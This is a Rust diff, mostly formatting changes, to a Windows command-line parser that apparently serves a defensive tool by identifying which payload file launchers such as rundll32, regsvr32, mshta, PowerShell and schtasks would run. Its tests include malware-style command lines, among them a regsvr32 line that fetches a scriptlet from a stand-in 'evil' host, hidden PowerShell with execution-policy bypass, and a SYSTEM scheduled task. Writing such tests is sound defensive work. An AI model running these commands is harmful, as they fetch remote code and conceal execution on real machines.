@@ -41,7 +41,10 @@ impl Env {
                 v("PROGRAMFILES(X86)", "C:\\Program Files (x86)"),
                 v("PROGRAMW6432", "C:\\Program Files"),
                 v("COMMONPROGRAMFILES", "C:\\Program Files\\Common Files"),
-                v("COMMONPROGRAMFILES(X86)", "C:\\Program Files (x86)\\Common Files"),
+                v(
+                    "COMMONPROGRAMFILES(X86)",
+                    "C:\\Program Files (x86)\\Common Files",
+                ),
                 v("PUBLIC", "C:\\Users\\Public"),
                 v("COMSPEC", "C:\\Windows\\system32\\cmd.exe"),
             ],
@@ -183,20 +186,56 @@ pub struct ParseCtx<'a> {
     pub exists: &'a dyn Fn(&str) -> bool,
 }
 
-const EXEC_EXTS: &[&str] = &["exe", "com", "bat", "cmd", "pif", "scr", "vbs", "vbe", "js", "jse", "wsf", "ps1", "hta", "lnk", "msi", "cpl"];
+const EXEC_EXTS: &[&str] = &[
+    "exe", "com", "bat", "cmd", "pif", "scr", "vbs", "vbe", "js", "jse", "wsf", "ps1", "hta",
+    "lnk", "msi", "cpl",
+];
 
 /// System binaries that resolve from a bare name, with their folder.
 const SYSTEM_BINARIES: &[&str] = &[
-    "rundll32", "regsvr32", "cmd", "wscript", "cscript", "mshta", "powershell", "msiexec", "conhost", "schtasks",
-    "ping", "reg", "sc", "net", "net1", "wmic", "certutil", "bitsadmin", "timeout", "taskkill", "forfiles", "odbcconf",
-    "control", "wermgr", "mobsync", "msra", "svchost", "dllhost", "werfault", "notepad", "calc", "whoami", "nltest",
-    "userinit", "taskhostw", "sihost", "ctfmon",
+    "rundll32",
+    "regsvr32",
+    "cmd",
+    "wscript",
+    "cscript",
+    "mshta",
+    "powershell",
+    "msiexec",
+    "conhost",
+    "schtasks",
+    "ping",
+    "reg",
+    "sc",
+    "net",
+    "net1",
+    "wmic",
+    "certutil",
+    "bitsadmin",
+    "timeout",
+    "taskkill",
+    "forfiles",
+    "odbcconf",
+    "control",
+    "wermgr",
+    "mobsync",
+    "msra",
+    "svchost",
+    "dllhost",
+    "werfault",
+    "notepad",
+    "calc",
+    "whoami",
+    "nltest",
+    "userinit",
+    "taskhostw",
+    "sihost",
+    "ctfmon",
 ];
 
 const CMD_BUILTINS: &[&str] = &[
-    "echo", "type", "del", "erase", "set", "copy", "move", "ren", "rename", "if", "for", "goto", "exit", "cd", "chdir",
-    "md", "mkdir", "rd", "rmdir", "cls", "pause", "rem", "setlocal", "endlocal", "pushd", "popd", "title", "ver", "vol",
-    "dir", "attrib",
+    "echo", "type", "del", "erase", "set", "copy", "move", "ren", "rename", "if", "for", "goto",
+    "exit", "cd", "chdir", "md", "mkdir", "rd", "rmdir", "cls", "pause", "rem", "setlocal",
+    "endlocal", "pushd", "popd", "title", "ver", "vol", "dir", "attrib",
 ];
 
 /// Split arguments with the CommandLineToArgvW rules.
@@ -272,7 +311,11 @@ fn split_program<'s>(s: &'s str, ctx: &ParseCtx) -> (String, &'s str) {
         };
     }
     // Candidate ends: each whitespace boundary, then the end.
-    let mut ends: Vec<usize> = s.char_indices().filter(|(_, c)| *c == ' ' || *c == '\t').map(|(i, _)| i).collect();
+    let mut ends: Vec<usize> = s
+        .char_indices()
+        .filter(|(_, c)| *c == ' ' || *c == '\t')
+        .map(|(i, _)| i)
+        .collect();
     ends.push(s.len());
     ends.dedup();
     let first = ends[0];
@@ -283,14 +326,18 @@ fn split_program<'s>(s: &'s str, ctx: &ParseCtx) -> (String, &'s str) {
         if cand.is_empty() {
             continue;
         }
-        let exists = (ctx.exists)(cand) || (paths::extension(cand).is_empty() && (ctx.exists)(&format!("{cand}.exe")));
+        let exists = (ctx.exists)(cand)
+            || (paths::extension(cand).is_empty() && (ctx.exists)(&format!("{cand}.exe")));
         if exists {
             return (cand.to_string(), &s[e..]);
         }
         let first_tok = &s[..first];
         let path_like = (first_tok.contains('\\') || first_tok.contains(':'))
             && !cand.contains(['&', '|', '<', '>', '"', ','])
-            && !cand.split_whitespace().skip(1).any(|t| t.starts_with('/') || t.starts_with('-'));
+            && !cand
+                .split_whitespace()
+                .skip(1)
+                .any(|t| t.starts_with('/') || t.starts_with('-'));
         if by_ext.is_none() && path_like && EXEC_EXTS.contains(&paths::extension(cand).as_str()) {
             by_ext = Some(e);
         }
@@ -305,10 +352,11 @@ fn split_program<'s>(s: &'s str, ctx: &ParseCtx) -> (String, &'s str) {
 fn resolve_program(p: &str, ctx: &ParseCtx) -> String {
     let p = paths::normalize(p);
     if p.contains('\\') || p.contains(':') {
-        if !p.contains(':') && !p.starts_with('\\') {
-            if let Some(cwd) = ctx.cwd.filter(|c| !c.is_empty()) {
-                return paths::normalize(&format!("{}\\{}", ctx.env.expand(cwd), p));
-            }
+        if !p.contains(':')
+            && !p.starts_with('\\')
+            && let Some(cwd) = ctx.cwd.filter(|c| !c.is_empty())
+        {
+            return paths::normalize(&format!("{}\\{}", ctx.env.expand(cwd), p));
         }
         return p;
     }
@@ -342,10 +390,14 @@ fn resolve_dll(p: &str, ctx: &ParseCtx) -> (String, bool) {
         }
         return (format!("C:\\Windows\\System32\\{n}"), true);
     }
-    if !n.contains(':') && !n.starts_with('\\') {
-        if let Some(cwd) = ctx.cwd.filter(|c| !c.is_empty()) {
-            return (paths::normalize(&format!("{}\\{}", ctx.env.expand(cwd), n)), false);
-        }
+    if !n.contains(':')
+        && !n.starts_with('\\')
+        && let Some(cwd) = ctx.cwd.filter(|c| !c.is_empty())
+    {
+        return (
+            paths::normalize(&format!("{}\\{}", ctx.env.expand(cwd), n)),
+            false,
+        );
     }
     (n, false)
 }
@@ -413,19 +465,40 @@ fn parse_depth(cmd: &str, ctx: &ParseCtx, depth: usize) -> Parsed {
             if let Some(s) = it.next() {
                 let rest: Vec<String> = it.cloned().collect();
                 let (path, _) = resolve_dll(s, ctx);
-                p.payloads.push(Payload { path, export: None, args: rest, via: l, searched: false });
+                p.payloads.push(Payload {
+                    path,
+                    export: None,
+                    args: rest,
+                    via: l,
+                    searched: false,
+                });
             }
         }
         Launcher::Mshta => {
             if let Some(a) = p.args.first() {
                 let la = a.to_ascii_lowercase();
-                if la.starts_with("vbscript:") || la.starts_with("javascript:") || la.starts_with("about:") {
+                if la.starts_with("vbscript:")
+                    || la.starts_with("javascript:")
+                    || la.starts_with("about:")
+                {
                     p.inline_code = true;
                 } else if la.starts_with("http://") || la.starts_with("https://") {
-                    p.payloads.push(Payload { path: a.clone(), export: None, args: vec![], via: l, searched: false });
+                    p.payloads.push(Payload {
+                        path: a.clone(),
+                        export: None,
+                        args: vec![],
+                        via: l,
+                        searched: false,
+                    });
                 } else {
                     let (path, _) = resolve_dll(a, ctx);
-                    p.payloads.push(Payload { path, export: None, args: p.args[1..].to_vec(), via: l, searched: false });
+                    p.payloads.push(Payload {
+                        path,
+                        export: None,
+                        args: p.args[1..].to_vec(),
+                        via: l,
+                        searched: false,
+                    });
                 }
             }
         }
@@ -438,11 +511,26 @@ fn parse_depth(cmd: &str, ctx: &ParseCtx, depth: usize) -> Parsed {
                     if a == flag {
                         if let Some(t) = p.args.get(i + 1) {
                             let (path, _) = resolve_dll(t, ctx);
-                            p.payloads.push(Payload { path, export: None, args: vec![], via: l, searched: false });
+                            p.payloads.push(Payload {
+                                path,
+                                export: None,
+                                args: vec![],
+                                via: l,
+                                searched: false,
+                            });
                         }
-                    } else if a.len() > flag.len() && a.starts_with(flag) && !a[flag.len()..].starts_with(|c: char| c.is_ascii_alphabetic()) {
+                    } else if a.len() > flag.len()
+                        && a.starts_with(flag)
+                        && !a[flag.len()..].starts_with(|c: char| c.is_ascii_alphabetic())
+                    {
                         let (path, _) = resolve_dll(&p.args[i][flag.len()..], ctx);
-                        p.payloads.push(Payload { path, export: None, args: vec![], via: l, searched: false });
+                        p.payloads.push(Payload {
+                            path,
+                            export: None,
+                            args: vec![],
+                            via: l,
+                            searched: false,
+                        });
                     }
                 }
                 i += 1;
@@ -454,7 +542,10 @@ fn parse_depth(cmd: &str, ctx: &ParseCtx, depth: usize) -> Parsed {
             loop {
                 let tok_end = r.find([' ', '\t']).unwrap_or(r.len());
                 let tok = &r[..tok_end];
-                if tok.starts_with("--") || tok.eq_ignore_ascii_case("0xffffffff") || tok.chars().all(|c| c.is_ascii_digit()) && !tok.is_empty() {
+                if tok.starts_with("--")
+                    || tok.eq_ignore_ascii_case("0xffffffff")
+                    || tok.chars().all(|c| c.is_ascii_digit()) && !tok.is_empty()
+                {
                     r = r[tok_end..].trim_start();
                 } else {
                     break;
@@ -470,21 +561,29 @@ fn parse_depth(cmd: &str, ctx: &ParseCtx, depth: usize) -> Parsed {
         Launcher::Schtasks => {
             let mut i = 0;
             while i < p.args.len() {
-                if p.args[i].eq_ignore_ascii_case("/tr") || p.args[i].eq_ignore_ascii_case("-tr") {
-                    if let Some(tr) = p.args.get(i + 1) {
-                        if depth < 4 {
-                            let child = parse_depth(tr, ctx, depth + 1);
-                            p.payloads.extend(child.payloads.iter().cloned());
-                            p.children.push(child);
-                        }
-                    }
+                if (p.args[i].eq_ignore_ascii_case("/tr") || p.args[i].eq_ignore_ascii_case("-tr"))
+                    && let Some(tr) = p.args.get(i + 1)
+                    && depth < 4
+                {
+                    let child = parse_depth(tr, ctx, depth + 1);
+                    p.payloads.extend(child.payloads.iter().cloned());
+                    p.children.push(child);
                 }
                 i += 1;
             }
         }
         Launcher::Direct => {
-            if !builtin && !is_system_binary(&program) && !SYSTEM_BINARIES.contains(&program_name.trim_end_matches(".exe")) {
-                p.payloads.push(Payload { path: program, export: None, args, via: l, searched: false });
+            if !builtin
+                && !is_system_binary(&program)
+                && !SYSTEM_BINARIES.contains(&program_name.trim_end_matches(".exe"))
+            {
+                p.payloads.push(Payload {
+                    path: program,
+                    export: None,
+                    args,
+                    via: l,
+                    searched: false,
+                });
             } else if !builtin {
                 p.launcher = Some(Launcher::Direct);
             }
@@ -494,7 +593,9 @@ fn parse_depth(cmd: &str, ctx: &ParseCtx, depth: usize) -> Parsed {
 }
 
 fn parse_rundll32(p: &mut Parsed, ctx: &ParseCtx) {
-    let Some(first) = p.args.first().cloned() else { return };
+    let Some(first) = p.args.first().cloned() else {
+        return;
+    };
     if first.starts_with('-') || first.starts_with('/') {
         return; // -sta {CLSID}, -localserver: no file
     }
@@ -505,21 +606,28 @@ fn parse_rundll32(p: &mut Parsed, ctx: &ParseCtx) {
     }
     let name_start = first.rfind('\\').map(|i| i + 1).unwrap_or(0);
     let (dll, mut export) = match first[name_start..].find(',') {
-        Some(j) => (first[..name_start + j].to_string(), first[name_start + j + 1..].trim().to_string()),
+        Some(j) => (
+            first[..name_start + j].to_string(),
+            first[name_start + j + 1..].trim().to_string(),
+        ),
         None => (first.clone(), String::new()),
     };
     let mut next = 1;
-    if export.is_empty() {
-        if let Some(a) = p.args.get(1) {
-            export = a.trim_start_matches(',').to_string();
-            next = 2;
-        }
+    if export.is_empty()
+        && let Some(a) = p.args.get(1)
+    {
+        export = a.trim_start_matches(',').to_string();
+        next = 2;
     }
     let (path, searched) = resolve_dll(&dll, ctx);
     let args = p.args.get(next..).map(|s| s.to_vec()).unwrap_or_default();
     p.payloads.push(Payload {
         path,
-        export: if export.is_empty() { None } else { Some(export) },
+        export: if export.is_empty() {
+            None
+        } else {
+            Some(export)
+        },
         args,
         via: Launcher::Rundll32,
         searched,
@@ -545,13 +653,21 @@ fn parse_regsvr32(p: &mut Parsed, ctx: &ParseCtx) {
     for t in targets {
         let (path, searched) = resolve_dll(&t, ctx);
         let is_scrobj = paths::file_name(&path).eq_ignore_ascii_case("scrobj.dll");
-        if is_scrobj {
-            if let Some(i) = &install_arg {
-                let li = i.to_ascii_lowercase();
-                let pth = if li.starts_with("http://") || li.starts_with("https://") { i.clone() } else { resolve_dll(i, ctx).0 };
-                p.payloads.push(Payload { path: pth, export: None, args: vec![], via: Launcher::Regsvr32, searched: false });
-                continue;
-            }
+        if is_scrobj && let Some(i) = &install_arg {
+            let li = i.to_ascii_lowercase();
+            let pth = if li.starts_with("http://") || li.starts_with("https://") {
+                i.clone()
+            } else {
+                resolve_dll(i, ctx).0
+            };
+            p.payloads.push(Payload {
+                path: pth,
+                export: None,
+                args: vec![],
+                via: Launcher::Regsvr32,
+                searched: false,
+            });
+            continue;
         }
         p.payloads.push(Payload {
             path,
@@ -564,18 +680,51 @@ fn parse_regsvr32(p: &mut Parsed, ctx: &ParseCtx) {
 }
 
 fn parse_powershell(p: &mut Parsed, ctx: &ParseCtx) {
-    let takes_value = ["-windowstyle", "-w", "-executionpolicy", "-ep", "-ex", "-exec", "-version", "-v", "-inputformat", "-outputformat", "-configurationname", "-workingdirectory", "-wd"];
+    let takes_value = [
+        "-windowstyle",
+        "-w",
+        "-executionpolicy",
+        "-ep",
+        "-ex",
+        "-exec",
+        "-version",
+        "-v",
+        "-inputformat",
+        "-outputformat",
+        "-configurationname",
+        "-workingdirectory",
+        "-wd",
+    ];
     let mut i = 0;
     while i < p.args.len() {
         let a = p.args[i].to_ascii_lowercase();
         if a == "-file" || a == "-f" || a == "/file" {
             if let Some(f) = p.args.get(i + 1) {
                 let (path, _) = resolve_dll(f, ctx);
-                p.payloads.push(Payload { path, export: None, args: p.args[i + 2..].to_vec(), via: Launcher::PowerShell, searched: false });
+                p.payloads.push(Payload {
+                    path,
+                    export: None,
+                    args: p.args[i + 2..].to_vec(),
+                    via: Launcher::PowerShell,
+                    searched: false,
+                });
             }
             return;
         }
-        if ["-encodedcommand", "-enc", "-en", "-e", "-ec", "-command", "-c", "-com", "-comm"].contains(&a.as_str()) || a == "-" {
+        if [
+            "-encodedcommand",
+            "-enc",
+            "-en",
+            "-e",
+            "-ec",
+            "-command",
+            "-c",
+            "-com",
+            "-comm",
+        ]
+        .contains(&a.as_str())
+            || a == "-"
+        {
             p.inline_code = true;
             return;
         }
@@ -590,7 +739,13 @@ fn parse_powershell(p: &mut Parsed, ctx: &ParseCtx) {
         // First positional argument: a script file or inline code.
         if a.ends_with(".ps1") {
             let (path, _) = resolve_dll(&p.args[i], ctx);
-            p.payloads.push(Payload { path, export: None, args: p.args[i + 1..].to_vec(), via: Launcher::PowerShell, searched: false });
+            p.payloads.push(Payload {
+                path,
+                export: None,
+                args: p.args[i + 1..].to_vec(),
+                via: Launcher::PowerShell,
+                searched: false,
+            });
         } else {
             p.inline_code = true;
         }
@@ -650,10 +805,10 @@ fn parse_cmd(p: &mut Parsed, rest: &str, ctx: &ParseCtx, depth: usize) {
 /// `start ["title"] [/b /min /d dir ...] command` -> `command`.
 fn strip_start(s: &str) -> &str {
     let mut r = s.trim_start();
-    if r.starts_with('"') {
-        if let Some(j) = r[1..].find('"') {
-            r = r[j + 2..].trim_start();
-        }
+    if r.starts_with('"')
+        && let Some(j) = r[1..].find('"')
+    {
+        r = r[j + 2..].trim_start();
     }
     while r.starts_with('/') {
         let tok_end = r.find([' ', '\t']).unwrap_or(r.len());
@@ -729,7 +884,14 @@ mod tests {
     fn p(cmd: &str) -> Parsed {
         let u = bob();
         let env = Env::for_user(Some(&u));
-        parse(cmd, &ParseCtx { env: &env, cwd: None, exists: &no })
+        parse(
+            cmd,
+            &ParseCtx {
+                env: &env,
+                cwd: None,
+                exists: &no,
+            },
+        )
     }
 
     #[test]
@@ -738,35 +900,56 @@ mod tests {
         assert_eq!(split_args(r#""a\"b" c\\"#), vec!["a\"b", "c\\\\"]);
         assert_eq!(split_args(r#"a\\\\"b c" d"#), vec!["a\\\\b c", "d"]);
         assert_eq!(split_args(r#""he said ""hi""""#), vec!["he said \"hi\""]);
-        assert_eq!(split_args(r#""C:\x y\a.dll",Export arg"#), vec!["C:\\x y\\a.dll,Export", "arg"]);
+        assert_eq!(
+            split_args(r#""C:\x y\a.dll",Export arg"#),
+            vec!["C:\\x y\\a.dll,Export", "arg"]
+        );
         assert_eq!(split_args("  "), Vec::<String>::new());
     }
 
     #[test]
     fn rundll32_forms() {
-        let x = p(r#"C:\Windows\system32\rundll32.exe "C:\Users\bob\AppData\Local\Ckninfw\ialkq.czi",Control_RunDLL"#);
+        let x = p(
+            r#"C:\Windows\system32\rundll32.exe "C:\Users\bob\AppData\Local\Ckninfw\ialkq.czi",Control_RunDLL"#,
+        );
         assert_eq!(x.launcher, Some(Launcher::Rundll32));
         assert_eq!(x.payloads.len(), 1);
-        assert_eq!(x.payloads[0].path, "C:\\Users\\bob\\AppData\\Local\\Ckninfw\\ialkq.czi");
+        assert_eq!(
+            x.payloads[0].path,
+            "C:\\Users\\bob\\AppData\\Local\\Ckninfw\\ialkq.czi"
+        );
         assert_eq!(x.payloads[0].export.as_deref(), Some("Control_RunDLL"));
 
         let x = p(r"rundll32 %LOCALAPPDATA%\Aibevs\jbcss.nfg,DUabvWmG");
         assert_eq!(x.program, "C:\\Windows\\System32\\rundll32.exe");
-        assert_eq!(x.payloads[0].path, "C:\\Users\\bob\\AppData\\Local\\Aibevs\\jbcss.nfg");
+        assert_eq!(
+            x.payloads[0].path,
+            "C:\\Users\\bob\\AppData\\Local\\Aibevs\\jbcss.nfg"
+        );
         assert_eq!(x.payloads[0].export.as_deref(), Some("DUabvWmG"));
 
         let x = p("RUNDLL32.EXE user32.dll, UpdatePerUserSystemParameters");
         assert_eq!(x.payloads[0].path, "C:\\Windows\\System32\\user32.dll");
         assert!(x.payloads[0].searched);
-        assert_eq!(x.payloads[0].export.as_deref(), Some("UpdatePerUserSystemParameters"));
+        assert_eq!(
+            x.payloads[0].export.as_deref(),
+            Some("UpdatePerUserSystemParameters")
+        );
 
-        let x = p(r#"rundll32.exe "C:\Users\bob\AppData\Local\Azad\qahaumsp.dll",update /i:"BrightBike\license.dat""#);
+        let x = p(
+            r#"rundll32.exe "C:\Users\bob\AppData\Local\Azad\qahaumsp.dll",update /i:"BrightBike\license.dat""#,
+        );
         assert_eq!(x.payloads[0].export.as_deref(), Some("update"));
         assert_eq!(x.payloads[0].args, vec!["/i:BrightBike\\license.dat"]);
 
-        let x = p(r#"rundll32.exe "C:\Users\bob\AppData\Local\{3B3CEF60-AFC9-5F9B-3CED-DE6BE81FCDCE}\dauzjo4\miatomdo2.dll",#1 --uyocas="C:\Users\bob\x\jhghjdfghdfgh""#);
+        let x = p(
+            r#"rundll32.exe "C:\Users\bob\AppData\Local\{3B3CEF60-AFC9-5F9B-3CED-DE6BE81FCDCE}\dauzjo4\miatomdo2.dll",#1 --uyocas="C:\Users\bob\x\jhghjdfghdfgh""#,
+        );
         assert_eq!(x.payloads[0].export.as_deref(), Some("#1"));
-        assert_eq!(x.payloads[0].args, vec!["--uyocas=C:\\Users\\bob\\x\\jhghjdfghdfgh"]);
+        assert_eq!(
+            x.payloads[0].args,
+            vec!["--uyocas=C:\\Users\\bob\\x\\jhghjdfghdfgh"]
+        );
 
         let x = p("rundll32.exe -sta {C53E07EC-25F3-4093-AA39-FC67EA22E99D}");
         assert!(x.payloads.is_empty());
@@ -774,8 +957,13 @@ mod tests {
 
     #[test]
     fn regsvr32_forms() {
-        let x = p(r#"regsvr32.exe -s "C:\Users\bob\AppData\Roaming\Microsoft\Bbbetedog\naqhixfsvwhmw.dll""#);
-        assert_eq!(x.payloads[0].path, "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Bbbetedog\\naqhixfsvwhmw.dll");
+        let x = p(
+            r#"regsvr32.exe -s "C:\Users\bob\AppData\Roaming\Microsoft\Bbbetedog\naqhixfsvwhmw.dll""#,
+        );
+        assert_eq!(
+            x.payloads[0].path,
+            "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Bbbetedog\\naqhixfsvwhmw.dll"
+        );
         let x = p(r"regsvr32 /s /i: C:\ProgramData\12842.jpg");
         assert_eq!(x.payloads[0].path, "C:\\ProgramData\\12842.jpg");
         let x = p(r"regsvr32 /s /n /u /i:http://evil/x.sct scrobj.dll");
@@ -794,10 +982,20 @@ mod tests {
         let u = bob();
         let env = Env::for_user(Some(&u));
         let ex = |s: &str| s.eq_ignore_ascii_case("C:\\Program Files\\My App\\run");
-        let x = parse(r"C:\Program Files\My App\run now.exe", &ParseCtx { env: &env, cwd: None, exists: &ex });
+        let x = parse(
+            r"C:\Program Files\My App\run now.exe",
+            &ParseCtx {
+                env: &env,
+                cwd: None,
+                exists: &ex,
+            },
+        );
         assert_eq!(x.program, "C:\\Program Files\\My App\\run");
         let x = p(r#""C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDrive.exe"  /background"#);
-        assert_eq!(x.program, "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe");
+        assert_eq!(
+            x.program,
+            "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
+        );
         assert_eq!(x.args, vec!["/background"]);
         assert_eq!(x.payloads[0].via, Launcher::Direct);
     }
@@ -806,20 +1004,31 @@ mod tests {
     fn cmd_chains_and_scripts() {
         let x = p(r#"cmd.exe /c "C:\Users\bob\AppData\Roaming\Comboboot7559513311\launcher.bat""#);
         assert_eq!(x.payloads.len(), 1);
-        assert_eq!(x.payloads[0].path, "C:\\Users\\bob\\AppData\\Roaming\\Comboboot7559513311\\launcher.bat");
-        let x = p(r"cmd /q /c ping.exe -n 6 127.0.0.1 & type C:\Windows\System32\calc.exe > C:\Users\bob\Desktop\x.exe");
+        assert_eq!(
+            x.payloads[0].path,
+            "C:\\Users\\bob\\AppData\\Roaming\\Comboboot7559513311\\launcher.bat"
+        );
+        let x = p(
+            r"cmd /q /c ping.exe -n 6 127.0.0.1 & type C:\Windows\System32\calc.exe > C:\Users\bob\Desktop\x.exe",
+        );
         assert!(x.payloads.is_empty(), "{:?}", x.payloads);
         assert_eq!(x.children.len(), 2);
         let x = p(r#"cmd /c start "" /min wscript.exe //B //E:vbscript "%TEMP%\abc.vbs" arg"#);
-        assert_eq!(x.payloads[0].path, "C:\\Users\\bob\\AppData\\Local\\Temp\\abc.vbs");
+        assert_eq!(
+            x.payloads[0].path,
+            "C:\\Users\\bob\\AppData\\Local\\Temp\\abc.vbs"
+        );
         assert_eq!(x.payloads[0].via, Launcher::ScriptHost);
-        let x = p(r"powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -File C:\ProgramData\x.ps1");
+        let x =
+            p(r"powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -File C:\ProgramData\x.ps1");
         assert_eq!(x.payloads[0].path, "C:\\ProgramData\\x.ps1");
         let x = p("powershell -enc SQBFAFgA");
         assert!(x.inline_code && x.payloads.is_empty());
         let x = p(r"mshta vbscript:Execute(1)");
         assert!(x.inline_code);
-        let x = p(r#"schtasks.exe /Create /RU "NT AUTHORITY\SYSTEM" /tn ayttpnzc /tr "regsvr32.exe -s \"C:\Users\bob\Desktop\761\a.dll\"" /SC ONCE /Z"#);
+        let x = p(
+            r#"schtasks.exe /Create /RU "NT AUTHORITY\SYSTEM" /tn ayttpnzc /tr "regsvr32.exe -s \"C:\Users\bob\Desktop\761\a.dll\"" /SC ONCE /Z"#,
+        );
         assert_eq!(x.payloads[0].path, "C:\\Users\\bob\\Desktop\\761\\a.dll");
         let x = p(r"conhost.exe --headless rundll32 C:\ProgramData\512.png,Wind");
         assert_eq!(x.payloads[0].path, "C:\\ProgramData\\512.png");
@@ -828,11 +1037,24 @@ mod tests {
     #[test]
     fn env_and_cwd() {
         let e = Env::for_user(Some(&bob()));
-        assert_eq!(e.expand("%appdata%\\x %UNKNOWN% 100%"), "C:\\Users\\bob\\AppData\\Roaming\\x %UNKNOWN% 100%");
+        assert_eq!(
+            e.expand("%appdata%\\x %UNKNOWN% 100%"),
+            "C:\\Users\\bob\\AppData\\Roaming\\x %UNKNOWN% 100%"
+        );
         let u = bob();
         let env = Env::for_user(Some(&u));
-        let x = parse("launcher.bat", &ParseCtx { env: &env, cwd: Some("%APPDATA%\\Comboboot7559513311"), exists: &no });
-        assert_eq!(x.payloads[0].path, "C:\\Users\\bob\\AppData\\Roaming\\Comboboot7559513311\\launcher.bat");
+        let x = parse(
+            "launcher.bat",
+            &ParseCtx {
+                env: &env,
+                cwd: Some("%APPDATA%\\Comboboot7559513311"),
+                exists: &no,
+            },
+        );
+        assert_eq!(
+            x.payloads[0].path,
+            "C:\\Users\\bob\\AppData\\Roaming\\Comboboot7559513311\\launcher.bat"
+        );
         // A bare system binary is never the payload.
         assert!(p("ctfmon.exe").payloads.is_empty());
     }
